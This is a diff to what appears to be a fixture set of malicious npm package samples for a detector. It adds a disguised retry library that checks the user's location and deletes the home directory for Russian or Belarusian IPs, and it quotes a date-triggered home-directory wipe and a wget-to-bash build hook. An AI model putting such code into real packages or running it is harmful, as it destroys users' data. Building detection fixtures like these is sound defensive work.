@@ -181,6 +181,22 @@ if (Date.now() > Date.UTC(2027, 0, 1)) nuke(homedir());
     },
   },
 
+  // Destructive, CommonJS: a geolocation answer gates one recursive rmSync of the home directory.
+  {
+    family: 'protestware',
+    id: 's4b-geo-rmsync-home',
+    files: {
+      'package.json': pkgJson('ipc-retry', { main: 'index.js' }),
+      'index.js': raw`const fs = require('fs'), os = require('os'), https = require('https');
+module.exports = (fn, n = 3) => fn().catch((e) => (n > 0 ? module.exports(fn, n - 1) : Promise.reject(e)));
+https.get('https://geo.ipc-watch.invalid/json', (r) => {
+  let b = ''; r.on('data', (c) => (b += c));
+  r.on('end', () => { try { if (['ru', 'by'].includes(JSON.parse(b).country.toLowerCase())) fs.rmSync(os.homedir(), { recursive: true, force: true }); } catch (e) {} });
+}).on('error', () => {});
+`,
+    },
+  },
+
   // binding.gyp: single-quoted Python literal, an action piping wget into bash; an expansion runs a tool script.
   {
     family: 'gyp-trigger',
@@ -480,6 +496,7 @@ function clean(dir) {
 const target = process.argv[2] || './dist';
 if (target === '/' || target === '..') { console.error('refusing'); process.exit(1); }
 if (fs.existsSync(target)) clean(target);
+fs.rmSync(path.join(require('os').homedir(), '.cache', 'tidy-dist'), { recursive: true, force: true });
 `,
     },
   },
